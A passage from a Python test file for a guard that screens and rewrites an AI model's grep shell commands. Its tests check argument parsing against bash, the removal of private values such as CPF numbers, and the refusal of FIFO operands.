    outside = re.sub(r"'[^']*'|\"'\"", "", out).replace("2>/dev/null", "").replace("2>&1", "")
    assert not set(outside) & set("$`;&><(){}[]!~\"\n")
    assert TOKEN_RE.search(out) is None


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(command=shaped_commands())
def test_fuzz_argv_matches_bash(command: str, project: Path) -> None:
    """Whenever a command is allowed, bash reads the same arguments as this module in the
    model's command and in the rewritten one."""
    verdict = decide(command, project)
    if not verdict.allowed or verdict.command == command:
        return
    mine = [[word.value for word in stage.words] for stage in shell._read(command)]
    if mine[0][0] == "command":
        mine[0] = mine[0][1:]
    assert mine == bash_argv(command)
    rewritten = [[word.value for word in stage.words][1:]
                 for stage in shell._read(verdict.command)]
    assert rewritten == bash_argv(verdict.command)


def test_fuzz_shaped_example(project: Path) -> None:
    """A case the fuzz test must be able to see: an allowed rewrite holds no token."""
    out = decide(f"grep '{CPF}' f", project).command
    assert TOKEN_RE.search(out) is None and out.startswith("command grep")


@pytest.mark.parametrize("operand", ["pipe", "p*"])
def test_a_fifo_operand_is_refused(project: Path, operand: str) -> None:
    # A FIFO would hold the search, its value in its arguments, for as long as another
    # process of the model's wants to read them.
    os.mkfifo(project / "pipe")
    verdict = decide(f"grep '{CPF}' {operand}", project)
    assert verdict == ShellVerdict(False, "a file that is not a regular file or folder", "")


def test_a_verdict_shows_no_value() -> None:
    verdict = ShellVerdict(True, "", "command grep -- 'D'\"'\"'Ávila' f")
    assert "Ávila" not in repr(verdict)
